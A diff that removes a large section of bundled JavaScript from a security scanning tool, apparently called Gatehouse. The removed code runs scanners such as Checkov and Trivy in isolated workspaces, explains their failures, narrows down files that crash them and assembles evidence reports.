-    ...new Map(problems.map((problem) => [`${problem.code} ${problem.sentence}`, problem])).values(),
-];
-
-;// CONCATENATED MODULE: ./build/js/flow/scan/kept-files.js
-/**
- * Files that a tool makes in its temporary folder and would make again in every run, such as Checkov's grammars (0.9 s of HCL, 19 s of
- * Bicep, measured with 3.3.30). The temporary folder stays private to the run: they are copied in before it, and out after it ended well.
- */
-async function bringKept(kept, temporary, files) {
-    for (const name of await namesIn(kept.folder, kept, files)) {
-        await files.write(`${temporary}/${name}`, await files.read(`${kept.folder}/${name}`));
-    }
-}
-/** A cache that cannot be written only costs time. */
-async function saveKept(kept, temporary, files) {
-    const there = new Set(await namesIn(kept.folder, kept, files));
-    for (const name of await namesIn(temporary, kept, files)) {
-        if (there.has(name))
-            continue;
-        await files.write(`${kept.folder}/${name}`, await files.read(`${temporary}/${name}`)).catch(() => undefined);
-    }
-}
-async function namesIn(folder, kept, files) {
-    const entries = await files.list(folder).catch(() => []);
-    return entries
-        .filter((entry) => entry.type === 'file' && entry.openable && entry.name.startsWith(kept.prefix))
-        .map((entry) => entry.name);
-}
-
-;// CONCATENATED MODULE: ./build/js/flow/run/explain-run.js
-
-/** `trivy/config` -> `Trivy`. */
-const titleOf = (scanner) => scanner.tool.charAt(0).toUpperCase() + scanner.tool.slice(1);
-const explain_run_minutes = (milliseconds) => milliseconds % 60_000 === 0 ? `${milliseconds / 60_000}m` : `${Math.round(milliseconds / 1000)}s`;
-/** How Go 1.26, CPython 3.11, orjson and the C library's loader say it; which of them comes first depends on where the limit was met. */
-const noMemory = /out of memory|\bMemoryError\b|cannot allocate memory|not enough memory|can't start new thread|failed to reserve page summary memory|failed to map segment from shared object(?!: Operation not permitted)/i;
-/** What standard error says of the machine: disk or memory. `undefined` when it says nothing of them. */
-function explainStderr(tool, stderr) {
-    if (/no space left on device/i.test(stderr)) {
-        return new errors/* GatehouseError */.GA('DISK_FULL', `${tool} could not write its report: the disk is full.`, {
-            hint: 'Free some space and run again.',
-        });
-    }
-    if (noMemory.test(stderr)) {
-        return new errors/* GatehouseError */.GA('TOOL_OUT_OF_MEMORY', `${tool} needed more memory than its limit allows.`, {
-            hint: `Raise it in the policy (tools: { ${tool.toLowerCase()}: { memory: 12g } }) or exclude the file that needs it.`,
-        });
-    }
-    return undefined;
-}
-/** What a run found counts when its first messages are lost, but not its silence about a file. */
-const explainLostMessages = (tool) => ({
-    code: 'OUTPUT_TOO_LARGE',
-    sentence: `${tool} wrote more than 16 MiB of messages, of which the first are lost: files that it did not read may be named in them.`,
-    hint: 'Exclude what it complains about in the policy (exclude: [...]).',
-});
-/** Why a process that did not end by itself brought nothing. */
-function explainEnd(scanner, end, stderr, limits) {
-    const tool = titleOf(scanner);
-    switch (end.type) {
-        case 'timed-out':
-            return explainSlowness(scanner, limits);
-        case 'signalled':
-            return (explainStderr(tool, stderr) ??
-                new errors/* GatehouseError */.GA('TOOL_KILLED', `${tool} was ended by ${end.signal} before it was done.`, {
-                    hint: 'The machine may be out of memory. Run again; if it stays, look at the system log.',
-                }));
-        case 'output-too-large':
-            return new errors/* GatehouseError */.GA('OUTPUT_TOO_LARGE', `${tool} wrote more than 384 MiB and was stopped.`, {
-                hint: 'Exclude generated files in the policy (exclude: [...]).',
-            });
-        case 'not-started':
-            return explainStart(tool, end);
-    }
-}
-/** How long it ran is only told where that is the limit of the policy: a part of it differs from run to run. */
-const explainSlowness = (scanner, { deadlineMs, limitMs }) => new errors/* GatehouseError */.GA('TOOL_TIMED_OUT', limitMs === undefined
-    ? `${titleOf(scanner)} was stopped after ${explain_run_minutes(deadlineMs)}, its limit.`
-    : `${titleOf(scanner)} took too long and was stopped (limit ${explain_run_minutes(limitMs)}).`, {
-    hint: `Run again; if it stays, raise the limit in the policy (tools: { ${scanner.tool}: { timeout: 20m } }) or exclude what is slow.`,
-});
-function explainStart(tool, end) {
-    switch (end.reason) {
-        case 'missing':
-            return new errors/* GatehouseError */.GA('TOOL_MISSING', `${tool} could not be started: its program is not there.`, {
-                hint: 'Run `gatehouse setup`.',
-            });
-        case 'not-executable':
-            return new errors/* GatehouseError */.GA('TOOL_NOT_EXECUTABLE', `${tool} could not be started: its program is not executable.`, {
-                hint: 'Run `gatehouse setup`.',
-            });
-        case 'other':
-            return new errors/* GatehouseError */.GA('TOOL_CRASHED', `${tool} could not be started: ${end.detail}.`, {
-                hint: 'Run `gatehouse setup`.',
-            });
-    }
-}
-
-;// CONCATENATED MODULE: ./build/js/flow/run/custom-checks.js
-
-
-/** Writes them into a folder of their own, never into the stage: they come from another commit than what is scanned. */
-async function placeChecks(scanner, checks, place, files) {
-    const given = new Map(checks.files);
-    for (const path of scanner.checks?.beside([...given.keys()]) ?? [])
-        if (!given.has(path))
-            given.set(path, '');
-    for (const [path, text] of given)
-        await files.write(`${place}/${path}`, text);
-    return { place, checks };
-}
-const custom_checks_longestLine = 8192;
-/**
- * The checks that the tool says it could not use, as one problem; `undefined` when it says so of none. Only the files are named: the
- * tool's words quote them.
- */
-function brokenChecks(scanner, stderr, { place, checks }) {
-    const lines = stderr.split('\n').map((line) => line.slice(0, custom_checks_longestLine));
-    const paths = [...checks.files.keys()];
-    const within = place.replace(/^\//, '');
-    const named = paths.filter((path) => lines.some((line) => mentions(line, `${within}/${path}`)));
-    const complaints = lines.flatMap((line) => scanner.checks?.complaints.flatMap((words) => words.exec(line) ?? []) ?? []);
-    const byName = paths.filter((path) => complaints.includes(path.slice(path.lastIndexOf('/') + 1)));
-    const broken = sortedUnique([...named, ...byName]).map((path) => `${checks.folder}/${path}`);
-    if (broken.length === 0 && complaints.length === 0)
-        return undefined;
-    const what = broken.length === 0 ? `a check in ${checks.folder}` : broken.join(', ');
-    return {
-        code: 'CHECK_INVALID',
-        sentence: `${titleOf(scanner)} could not use ${what}, so what it looks for was not looked for.`,
-        hint: 'Correct the check, and try it with the tool itself; it counts when it is merged.',
-    };
-}
-/** Not as the beginning of a longer name. */
-const mentions = (line, path) => line
-    .split(path)
-    .slice(1)
-    .some((rest) => !/^[\w-]/.test(rest));
-
-;// CONCATENATED MODULE: ./build/js/flow/run/run-scanner.js
-
-
-
-
-/** The most a tool may print or write; more is `failed` (DESIGN 5). */
-const outputBytes = 384 * 1024 * 1024;
-/** Of a tool's messages, which name the files it did not read: some 50,000 of them. */
-const stderrBytes = 16 * 1024 * 1024;
-/** Starts a scanner from an empty folder with an empty HOME, nothing inherited, and reads its native report. */
-async function runScanner(request, ports) {
-    const { scanner, workspace } = request;
-    const [cwd, home, temporary, scratch] = ['cwd', 'home', 'tmp', 'scratch'].map((name) => `${workspace}/${name}`);
-    if (cwd === undefined || home === undefined || temporary === undefined || scratch === undefined)
-        throw new errors/* GatehouseError */.GA('INTERNAL', 'No workspace.');
-    for (const folder of [cwd, home, temporary, scratch])
-        await ports.files.makeDirectory(folder);
-    const { kept } = request.installed;
-    if (kept !== undefined)
-        await bringKept(kept, temporary, ports.files);
-    const report = `${workspace}/report.json`;
-    const command = scanner.command({
-        root: request.stage,
-        formats: request.formats,
-        scratch,
-        report,
-        without: request.without,
-        ...(request.only === undefined ? {} : { only: request.only }),
-        ...(request.database === undefined ? {} : { database: request.database }),
-        ...(request.checks === undefined ? {} : { checks: request.checks.place }),
-    });
-    const result = await ports.exec.run({
-        file: request.installed.file,
-        args: [...request.installed.args, ...command.args],
-        cwd,
-        env: {
-            PATH: cwd,
-            HOME: home,
-            TMPDIR: temporary,
-            LANG: 'C.UTF-8',
-            LC_ALL: 'C.UTF-8',
-            ...request.installed.env,
-            ...command.env,
-        },
-        deadlineMs: request.deadlineMs,
-        memoryBytes: request.memoryBytes,
-        outputBytes,
-        stderrBytes,
-        isolated: true,
-        hidden: request.hidden,
-        ...(command.reportOn === 'stdout' ? { stdoutFile: report } : { watched: report }),
-    });
-    const measured = { durationMs: result.durationMs, isolated: result.isolated };
-    try {
-        const parsed = await run_scanner_readReport(request, result, report, ports);
-        // What ran beside code of a repository is nothing that other runs may trust.
-        if (kept !== undefined && request.checks === undefined)
-            await saveKept(kept, temporary, ports.files);
-        return { type: 'parsed', parsed, ...measured };
-    }
-    catch (error) {
-        return { type: 'failed', problem: (0,errors/* toProblem */.H8)(error), ...measured };
-    }
-}
-async function run_scanner_readReport(request, result, report, ports) {
-    const { scanner, checks } = request;
-    if (result.end.type !== 'exited')
-        throw explainEnd(scanner, result.end, result.stderr, request);
-    const text = await ports.files.readText(report).catch(() => '');
-    const broken = checks === undefined ? undefined : brokenChecks(scanner, result.stderr, checks);
-    if (broken !== undefined && result.end.code !== 0)
-        throw new errors/* GatehouseError */.GA(broken.code, broken.sentence, run_scanner_hintOf(broken));
-    const parsed = run_scanner_parse(scanner, {
-        report: text,
-        stderr: result.stderr,
-        exit: result.end.code,
-        root: request.stage,
-        files: request.files,
-    });
-    const first = parsed.problems[0];
-    if (first !== undefined)
-        throw new errors/* GatehouseError */.GA(first.code, first.sentence, run_scanner_hintOf(first));
-    const lost = result.stderrCut === true ? [explainLostMessages(titleOf(scanner))] : [];
-    return { ...parsed, problems: broken === undefined ? lost : [broken, ...lost] };
-}
-const run_scanner_hintOf = ({ hint }) => (hint === undefined ? {} : { hint });
-/** A report that cannot be decoded says less about the trouble than the way the process ended. */
-function run_scanner_parse(scanner, run) {
-    try {
-        return scanner.parse(run);
-    }
-    catch (error) {
-        const spoken = explainStderr(titleOf(scanner), run.stderr);
-        if (spoken !== undefined)
-            throw spoken;
-        throw error;
-    }
-}
-
-;// CONCATENATED MODULE: ./build/js/flow/run/time-budget.js
-/** Less is too short for a tool to start and read one file. */
-const shortestMs = 10_000;
-function startTimeBudget(totalMs, clock) {
-    const end = clock.monotonicMs() + totalMs;
-    const left = () => Math.max(0, end - clock.monotonicMs());
-    return {
-        isSpent: () => left() <= 0,
-        share: () => Math.ceil(Math.min(left(), Math.max(shortestMs, left() / 4))),
-    };
-}
-
-;// CONCATENATED MODULE: ./build/js/flow/run/narrow.js
-
-
-
-
-/** Runs spent on one format's files, halves and all (DESIGN 3). */
-const runsPerFormat = 8;
-/**
- * Looks for what made a run of the whole tree fail: format by format, then in halves of a format's files down to the file, which is a
- * gap by name while everything else counts. A tool that fails over the canaries alone fails over everything: nothing is searched then.
- */
-async function narrowFailure(request, whole, stage, ports) {
-    const search = startSearch(request, stage, ports);
-    const canaries = request.formats.flatMap((format) => canaryFilesOf(search, format));
-    const proof = canaries.length === 0 ? undefined : await search.run(request.formats, canaries);
-    const spentMs = whole.durationMs + (proof?.durationMs ?? 0);
-    if (proof?.type === 'failed')
-        return { ...failedReading(whole, request.formats), durationMs: spentMs };
-    const parts = [];
-    for (const format of request.formats) {
-        parts.push(search.budget.isSpent() ? failedReading(whole, [format]) : await readFormat(format, search));
-    }
-    const united = uniteReadings(parts.map((part) => inWordsOf(whole, part)));
-    return { ...united, durationMs: united.durationMs + spentMs };
-}
-/** Parts that failed in the same way as the whole say the same, once. */
-const inWordsOf = ({ problem }, part) => ({
-    ...part,
-    problems: part.problems.map((own) => (own.code === problem.code ? problem : own)),
-});
-function startSearch(request, stage, ports) {
-    const budget = startTimeBudget(request.deadlineMs, ports.clock);
-    let runs = 0;
-    return {
-        scanner: request.scanner,
-        stage,
-        without: new Set(request.without),
-        budget,
-        run: (formats, only) => {
-            runs += 1;
-            const workspace = `${request.workspace}/again-${runs}`;
-            const limits = { deadlineMs: budget.share(), limitMs: request.deadlineMs };
-            return runScanner({ ...request, ...limits, workspace, formats, ...(only === undefined ? {} : { only }) }, ports);
-        },
-    };
-}
-/** The canary goes along with every half, so that each half proves that it was read. */
-function canaryFilesOf({ scanner, stage }, format) {
-    const canary = scanner.canaries.find((candidate) => candidate.format === format);
-    const folder = canaryPath(stage.canaryFolder, scanner.name, format);
-    return Object.keys(canary?.files ?? {}).map((name) => `${folder}/${name}`);
-}
-async function readFormat(format, search) {
-    const alone = await search.run([format]);
-    if (alone.type === 'parsed')
-        return readingOf(alone);
-    const files = search.stage.files
-        .filter((file) => file.formats.includes(format) && !search.without.has(file.path))
-        .map((file) => file.path);
-    if (!search.scanner.standsAlone.includes(format) || files.length === 0)
-        return failedReading(alone, [format]);
-    const reading = await halve(format, files, alone, search);
-    return { ...reading, durationMs: reading.durationMs + alone.durationMs };
-}
-async function halve(format, files, first, search) {
-    const canary = canaryFilesOf(search, format);
-    const parsed = [];
-    const gaps = [];
-    let [runs, durationMs] = [0, 0];
-    const attempt = async (group) => {
-        const result = await search.run([format], [...canary, ...group]);
-        if (result.type === 'parsed')
-            parsed.push(result.parsed);
-        runs += 1;
-        durationMs += result.durationMs;
-        return result;
-    };
-    const suspects = files.length === 1 ? [] : halves(files);
-    if (files.length === 1)
-        gaps.push(...crashed(files, search.scanner, first.problem));
-    for (let group = suspects.shift(); group !== undefined; group = suspects.shift()) {
-        if (runs >= runsPerFormat || search.budget.isSpent()) {
-            const rest = crashed([group, ...suspects].flat(), search.scanner, first.problem);
-            return { parsed, problems: [first.problem], gaps: [...gaps, ...rest], unread: [], durationMs };
-        }
-        const result = await attempt(group);
-        if (result.type === 'parsed')
-            continue;
-        if (group.length === 1)
-            gaps.push(...crashed(group, search.scanner, result.problem));
-        else
-            suspects.push(...halves(group));
-    }
-    const proof = parsed.length > 0 ? undefined : await attempt([]);
-    if (proof?.type === 'failed')
-        return { ...failedReading(proof, [format]), durationMs };
-    return { parsed, problems: parsed.flatMap(({ problems }) => problems), gaps, unread: [], durationMs };
-}
-const halves = (files) => {
-    const middle = Math.ceil(files.length / 2);
-    return [files.slice(0, middle), files.slice(middle)].filter((half) => half.length > 0);
-};
-const crashed = (paths, scanner, problem) => paths.map((path) => ({ path, reason: 'crashed-tool', tool: scanner.tool, detail: problem.sentence }));
-
-;// CONCATENATED MODULE: ./build/js/flow/scan/read-tree.js
-
-
-
-
-/** Runs the scanner; when it crashes, hangs or prints half a report, looks for what it stumbled over, so that the rest counts. */
-async function readTree(request, stage, ports) {
-    const whole = await runScanner(request, ports);
-    if (whole.type === 'parsed')
-        return readingOf(whole);
-    return request.scanner.standsAlone.length === 0
-        ? failedReading(whole, request.formats)
-        : narrowFailure(request, whole, stage, ports);
-}
-/** Files per format among those given. */
-function countOf(formats, files) {
-    return [...formats]
-        .sort(order_compareText)
-        .map((format) => ({ format, files: files.filter((file) => file.formats.includes(format)).length }));
-}
-
-;// CONCATENATED MODULE: ./build/js/flow/scan/supply-scan.js
-
-
-const isSupplied = (means) => 'installed' in means;
-/** A folder of its own for one scanner. */
-const workspaceOf = (workspace, { scanner }) => `${workspace}/${scanner.name.replace('/', '-')}`;
-/** What the lock says of a tool that was not brought. */
-const unknownTool = ({ scanner }) => ({
-    name: scanner.tool,
-    version: lockedVersion(scanner.tool),
-    digest: '',
-    origin: 'none',
-});
-/** Nothing is brought, because it could not be used. */
-const unsupplied = (planned, problem) => ({
-    tool: unknownTool(planned),
-    data: [],
-    means: problem,
-});
-/** Installs what one scanner needs and checks it by digest. Never rejects: trouble is a value, for the evidence of this scanner alone. */
-async function supplyScan(planned, workspace, supplies) {
-    const { scanner } = planned;
-    let tool = unknownTool(planned);
-    try {
-        const installed = await supplies.install(scanner.tool);
-        tool = identityOf(installed);
-        if (!scanner.needsDatabase)
-            return { tool, data: [], means: { installed } };
-        const { data, folder } = await supplies.database(`${workspaceOf(workspace, planned)}/data`);
-        return { tool, data: [data], means: { installed, database: folder } };
-    }
-    catch (error) {
-        return { tool, data: [], means: (0,errors/* toProblem */.H8)(error) };
-    }
-}
-const identityOf = ({ name, version, digest, origin }) => ({ name, version, digest, origin });
-
-;// CONCATENATED MODULE: ./build/js/flow/run/find-crashing.js
-/** Files that are known to end the tool's whole run, as gaps by name: without them, the rest of the tree counts. */
-async function findCrashing({ tool, crashesOn }, formats, stage, files) {
-    if (crashesOn === undefined)
-        return [];
-    const gaps = [];
-    for (const { path, formats: own } of stage.files) {
-        const known = own.filter((format) => formats.includes(format) && crashesOn.formats.includes(format));
-        if (known.length === 0)
-            continue;
-        const text = await files.readText(`${stage.root}/${path}`);
-        const detail = known.map((format) => crashesOn.reason(format, text)).find((reason) => reason !== undefined);
-        if (detail !== undefined)
-            gaps.push({ path, reason: 'crashed-tool', tool, detail });
-    }
-    return gaps;
-}
-
-;// CONCATENATED MODULE: ./build/js/flow/run/run-planned.js
-
-
-
-
-
-
-/** Runs one scanner over the stage. Never rejects: whatever goes wrong is in the evidence of this scanner alone. */
-async function runPlanned(planned, { tool, data, means }, context, ports) {
-    const { scanner, formats, deadlineMs, memoryBytes } = planned;
-    const label = run_planned_labelOf(planned);
-    ports.progress.step(label, 'started');
-    const reading = isSupplied(means)
-        ? await read(planned, means, context, ports).catch((error) => run_planned_unread(planned, (0,errors/* toProblem */.H8)(error)))
-        : run_planned_unread(planned, means);
-    const [problem] = reading.problems;
-    ports.progress.step(label, problem === undefined ? 'finished' : 'failed', problem?.sentence ?? '');
-    const rules = checksFor(planned, context)?.digest;
-    const own = rules === undefined ? {} : { rules };
-    return { scanner, tool, formats, reading, data, ...own, limits: { deadlineMs, memoryBytes } };
-}
-async function read(planned, means, context, ports) {
-    const { stage, hidden } = context;
-    const { scanner, formats, deadlineMs, memoryBytes } = planned;
-    const crashing = await findCrashing(scanner, formats, stage, ports.files);
-    const workspace = workspaceOf(context.workspace, planned);
-    const own = checksFor(planned, context);
-    const checks = own && (await placeChecks(scanner, own, `${workspace}/checks`, ports.files));
-    const request = {
-        scanner,
-        stage: stage.root,
-        files: stage.paths,
-        workspace,
-        formats,
-        without: crashing.map(({ path }) => path),
-        deadlineMs,
-        memoryBytes,
-        hidden,
-        ...(checks === undefined ? {} : { checks }),
-        ...means,
-    };
-    const reading = await readTree(request, stage, ports);
-    return { ...reading, gaps: [...crashing, ...reading.gaps] };
-}
-const checksFor = ({ scanner }, { checks }) => scanner.checks === undefined ? undefined : checks.find(({ tool }) => tool === scanner.tool);
-const run_planned_unread = ({ formats }, problem) => ({
-    parsed: [],
-    problems: [problem],
-    gaps: [],
-    unread: formats,
-    durationMs: 0,
-});
-const run_planned_labelOf = ({ scanner }) => scanner.name.includes('/') ? `${titleOf(scanner)} ${scanner.name.slice(scanner.tool.length + 1)}` : titleOf(scanner);
-
-;// CONCATENATED MODULE: ./build/js/flow/scan/find-unlisted.js
-
-
-
-/** Larger documents are not read again only to say why a tool skipped them. */
-const find_unlisted_readableBytes = 4 * 1024 * 1024;
-/**
- * Files that a tool was given and is not known to have read. Some it skipped in silence, with exit 0, as its list of files tells. Where
- * it keeps no list, YAML and JSON that do not parse are what it skips in silence: these are read here once more, unless some tool read
- * them (`understood`).
- */
-async function findUnlisted({ scanner, formats, reading }, understood, stage, files) {
-    const listed = new Set(reading.parsed.flatMap((parsed) => [...parsed.listed]));
-    const gaps = [];
-    for (const file of stage.files) {
-        if (listed.has(file.path))
-            continue;
-        const gap = await missed(scanner, formats, file, (unread) => understood.has(unread.path) ? undefined : mistakeIn(unread, stage.root, files));
-        if (gap !== undefined)
-            gaps.push({ path: file.path, tool: scanner.tool, ...gap });
-    }
-    return [...gaps, ...find_unlisted_leftOut(scanner, formats, stage)].sort((a, b) => order_compareText(a.path, b.path));
-}
-/**
- * Files that some tool is known to have understood: it lists them, or found something in them. A secret proves nothing: those are found
- * line by line, whether the rest makes sense or not.
- */
-function understoodBy(runs) {
-    const parsed = runs.flatMap(({ reading }) => reading.parsed);
-    const proofs = parsed.flatMap(({ findings }) => findings.filter(({ kind }) => kind !== 'secret'));
-    return new Set([...parsed.flatMap(({ listed }) => [...listed]), ...proofs.map(({ path }) => path)]);
-}
-async function missed(scanner, formats, file, mistake) {
-    const own = file.formats.filter((format) => formats.includes(format) && !isLeftOut(scanner, format, file));
-    const isExpected = own.some((format) => scanner.listsByFile.includes(format));
-    if (isExpected) {
-        if (file.formats.includes('helm'))
-            return notRendered;
-        return (await mistake(file)) ?? { reason: 'not-read' };
-    }
-    const isTakenApart = own.some((format) => format !== secretsFormat);
-    return isTakenApart && !file.formats.includes('helm') ? mistake(file) : undefined;
-}
-/** A template is no YAML until the chart is rendered, and what a condition of the chart leaves out is not there to be read. */
-const notRendered = {
-    reason: 'not-read',
-    detail: "not part of the chart with the chart's own values",
-};
-/** What the tool skips by rules of its own (names, folders, sizes), which nothing in its report tells. */
-const find_unlisted_leftOut = (scanner, formats, stage) => formats.flatMap((format) => stage.files
-    .filter((file) => isLeftOut(scanner, format, file))
-    .map(({ path }) => ({ path, reason: 'left-out', tool: scanner.tool, detail: format })));
-/** True for a file of this format that the tool does not look at, whatever its run says. */
-const isLeftOut = (scanner, format, file) => file.formats.includes(format) && scanner.leavesOut?.(format, file.path, file.size) === true;
-async function mistakeIn({ path, size }, root, files) {
-    if (size > find_unlisted_readableBytes || !/\.(?:ya?ml|json|template)$/.test(path))
-        return undefined;
-    const text = await files.readText(`${root}/${path}`).catch(() => undefined);
-    const mistake = text === undefined ? undefined : readDocuments(text).problems.find((problem) => problem.code === 'syntax');
-    return mistake === undefined ? undefined : { reason: 'not-parsed', line: mistake.line };
-}
-
-;// CONCATENATED MODULE: ./build/js/flow/scan/assemble-evidence.js
-
-
-
-
-
-
-/** The findings proper: canaries are never among them. */
-const reportedOf = (run, stage) => run.reading.parsed.flatMap((parsed) => parsed.findings.filter((reported) => !isCanary(reported.path, stage)));
-const isCanary = (path, stage) => path.startsWith(`${stage.canaryFolder}/`);
-/** A canary is seen when its own rule fired on a file of its own folder. */
-function canariesOf(run, stage) {
-    const all = run.reading.parsed
-        .flatMap((parsed) => parsed.findings)
-        .filter((reported) => isCanary(reported.path, stage));
-    return run.scanner.canaries
-        .filter((canary) => run.formats.includes(canary.format))
-        .map(({ format, expects }) => {
-        const folder = `${canaryPath(stage.canaryFolder, run.scanner.name, format)}/`;
-        return {
-            format,
-            seen: all.some((reported) => reported.path.startsWith(folder) &&
-                (reported.ruleId === expects || reported.advisory?.ids.includes(expects) === true)),
-        };
-    })
-        .sort((a, b) => order_compareText(a.format, b.format));
-}
-function examinedOf(run, stage, canaries, gaps) {
-    const unread = new Set(gaps.filter(keepsUnread).map((gap) => gap.path));
-    const read = stage.files.filter((file) => !unread.has(file.path));
-    const trusted = run.formats.filter((format) => !run.reading.unread.includes(format) && !canaries.some((canary) => canary.format === format && !canary.seen));
-    const complete = run.reading.parsed.length > 0;
-    return countRead(run, read).map(({ format, files }) => ({
-        format,
-        files: complete && trusted.includes(format) ? files : 0,
-    }));
-}
-const countRead = (run, read) => run.formats.flatMap((format) => countOf([format], read.filter((file) => !isLeftOut(run.scanner, format, file))));
-/**
- * Everything one scanner brought, with proof: what it was given, what it is known to have read, and what it missed by name. Its own
- * words may hold whatever the files hold: they are masked here, all of them.
- */
-function assembleEvidence(run, stage, findings, { unlisted, changed, mask }) {
-    const canaries = canariesOf(run, stage);
-    const own = run.reading.parsed.flatMap((parsed) => parsed.gaps).filter((gap) => !isCanary(gap.path, stage));
-    const gaps = dedupe([...own, ...run.reading.gaps, ...unlisted].map((gap) => ({ ...masked(gap, mask), tool: run.scanner.tool })));
-    const problems = [
-        ...run.reading.problems.map((problem) => maskedProblem(problem, mask)),
-        ...changed.slice(0, 1).map((path) => inputChanged(path, changed.length)),
-    ];
-    return {
-        scanner: run.scanner.name,
-        tool: run.tool,
-        target: { type: 'tree', name: '.' },
-        inputs: {
-            tree: digestTree(stage.files),
-            options: digestOptions(run),
-            data: run.data,
-            ...(run.rules === undefined ? {} : { rules: run.rules }),
-        },
-        outcome: problems.length === 0 ? 'complete' : run.reading.parsed.length === 0 ? 'failed' : 'partial',
-        problems,
-        planned: countOf(run.formats, stage.files),
-        examined: examinedOf(run, stage, canaries, gaps),
-        gaps,
-        canaries,
-        findings,
-    };
-}
-const masked = (gap, mask) => (gap.detail === undefined ? gap : { ...gap, detail: mask(gap.detail) });
-const maskedProblem = ({ code, sentence, hint }, mask) => ({
-    code,
-    sentence: mask(sentence),
-    ...(hint === undefined ? {} : { hint: mask(hint) }),
-});
-/** Sorted, each once; that a file does not parse says more than that it was not read, and the line more than none. */
-function dedupe(gaps) {
-    const unparsed = gaps.filter((gap) => gap.reason === 'not-parsed');
-    const [broken, lined] = [unparsed, unparsed.filter((gap) => gap.line !== undefined)].map((some) => new Set(some.map(({ path }) => path)));
-    const kept = gaps.filter(({ path, reason, line }) => !(reason === 'not-read' && broken?.has(path)) &&
-        !(reason === 'not-parsed' && line === undefined && lined?.has(path)));
-    const keyOf = (gap) => [gap.path, gap.reason, String(gap.line ?? 0).padStart(9, '0'), gap.detail ?? ''].join('\u001f');
-    return [...new Map(kept.map((gap) => [keyOf(gap), gap]))].sort(([a], [b]) => order_compareText(a, b)).map(([, gap]) => gap);
-}
-const inputChanged = (path, count) => ({
-    code: 'INPUT_CHANGED',
-    sentence: `${path}${count > 1 ? ` and ${count - 1} more` : ''} changed while it was scanned, so the result fits no one state of the tree.`,
-    hint: 'Leave the files alone while the scan runs, and run again.',
-});
-const digestOptions = (run) => {
-    const command = run.scanner.command({
-        root: '/root',
-        formats: [...run.formats].sort(order_compareText),
-        scratch: '/scratch',
-        report: '/report',
-        database: '/database',
-        ...(run.rules === undefined ? {} : { checks: '/checks' }),
-    });
-    return `sha256:${sha256Hex(JSON.stringify([command.args, Object.entries(command.env).sort(([a], [b]) => order_compareText(a, b)), run.limits]))}`;
-};
-
-;// CONCATENATED MODULE: ./build/js/flow/scan/heard-skips.js
-
-
-/** The files with only those comments that speak to a tool which opens the file: elsewhere, in documentation, they are examples. */
-const heardSkips = (files) => files.map((file) => file.skips.length === 0 ? file : { ...file, skips: file.skips.filter(({ tool }) => opens(tool, file)) });
-const opens = (tool, file) => tools_scanners.some((scanner) => scanner.tool === tool &&
-    scanner.skips !== undefined &&
-    scanner.reads.some((format) => file.formats.includes(format) && !isLeftOut(scanner, format, file)));
-
-;// CONCATENATED MODULE: ./build/js/flow/scan/gather.js
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-/** Stages the tree, runs the scanners that are planned, and locates what they say. Where there is no place for a stage, each has failed for that reason. */
-async function gather(gathering, ports) {
-    const workspace = await ports.files.makeTemporary('gatehouse-').catch(errors/* toProblem */.H8);
-    if (typeof workspace !== 'string')
-        return withoutStage(workspace, gathering, ports);
-    try {
-        return await gatherIn(workspace, gathering, ports);
-    }
-    finally {
-        await ports.files.remove(workspace).catch((error) => {
-            ports.progress.step(`remove ${workspace}`, 'failed', (0,errors/* toProblem */.H8)(error).sentence);
-        });
-    }
-}
-async function gatherIn(workspace, gathering, ports) {
-    const { supplies, root, inventory, plan, found } = gathering;
-    const started = ports.clock.monotonicMs();
-    const scans = plan.map((planned) => ({ planned, supplied: supplyScan(planned, workspace, supplies) }));
-    const stage = await buildStage(inventory, stageOptions(plan, `${workspace}/tree`), ports.files).catch(errors/* toProblem */.H8);
-    if (!isStage(stage)) {
-        await Promise.all(scans.map(({ supplied }) => supplied)); // They may be writing into the workspace.
-        return withoutStage(stage, gathering, ports);
-    }
-    const staged = ports.clock.monotonicMs();
-    const sources = openSources(root, ports.files);
-    const hidden = hiddenFrom(root, ports.environment);
-    let running = scans.length;
-    const runs = await Promise.all(scans.map(async ({ planned, supplied }) => {
-        const run = await runPlanned(planned, await supplied, { stage, workspace, hidden, checks: found.checks }, ports);
-        running -= 1;
-        if (running > 0)
-            await prepareSources(sources, reportedOf(run, stage));
-        return run;
-    }));
-    const changed = await stage.changed();
-    const ran = ports.clock.monotonicMs();
-    const evidence = await locate(runs, { ...gathering, sources, stage, changed }, ports);
-    const timings = Object.fromEntries(runs.map((run) => [run.scanner.name, Math.round(run.reading.durationMs)]));
-    const own = { stage: Math.round(staged - started), locate: Math.round(ports.clock.monotonicMs() - ran) };
-    return { ...evidence, timings: { ...timings, ...own } };
-}
-const isStage = (stage) => 'paths' in stage;
-async function withoutStage(problem, gathering, ports) {
-    const stage = unbuiltStage(gathering.inventory);
-    const runs = await Promise.all(gathering.plan.map((planned) => runPlanned(planned, unsupplied(planned, problem), { stage, workspace: '', hidden: [], checks: [] }, ports)));
-    return locate(runs, { ...gathering, sources: openSources(gathering.root, ports.files), stage, changed: [] }, ports);
-}
-const stageOptions = (plan, root) => ({
-    root,
-    ownConfig: plan.flatMap(({ scanner }) => scanner.ownConfig),
-    skipRules: allSkipRules,
-    canaries: plan.flatMap(({ scanner, formats }) => scanner.canaries
-        .filter((canary) => formats.includes(canary.format))
-        .map(({ format, files }) => ({ scanner: scanner.name, format, files }))),
-});
-async function locate(runs, { sources, inventory, stage, changed, found, ...scene }, ports) {
-    const neutralised = new Set(allSkipRules.filter((rule) => rule.neutralise).map((rule) => rule.tool));
-    const skips = createSkips(heardSkips(inventory.files), neutralised, gather_dayOf(ports.clock));
-    const terraform = inventory.files.filter((file) => file.formats.includes('terraform')).map((file) => file.path);
-    const reports = runs.map((run) => ({
-        scanner: run.scanner.name,
-        tool: run.scanner.tool,
-        reported: reportedOf(run, stage),
-    }));
-    const subject = await scene.subject;
-    const { runs: located, mask } = await placeFindings(reports, { sources, terraform, skips });
-    const understood = understoodBy(runs);
-    const head = await Promise.all(runs.map(async (run, index) => {
-        const unlisted = run.reading.parsed.length === 0 ? [] : await findUnlisted(run, understood, stage, ports.files);
-        return assembleEvidence(run, stage, located[index]?.findings ?? [], { unlisted, changed, mask });
-    }));
-    return {
-        schema: 1,
-        subject,
-        inputs: {
-            ...(found.origin.digest === undefined ? {} : { policy: found.origin.digest }),
-            plan: planDigest(found),
-            lock: lockDigest,
-        },
-        inventory: {
-            files: inventory.files.length,
-            formats: inventory.formats,
-            gaps: [...inventory.gaps, ...stage.gaps],
-            skips: skips.all(mask),
-        },
-        head,
-        timings: {},
-    };
-}
+;// CONCATENATED MODULE: ./build/js/flow/scan/day.js
 /** UTC. */
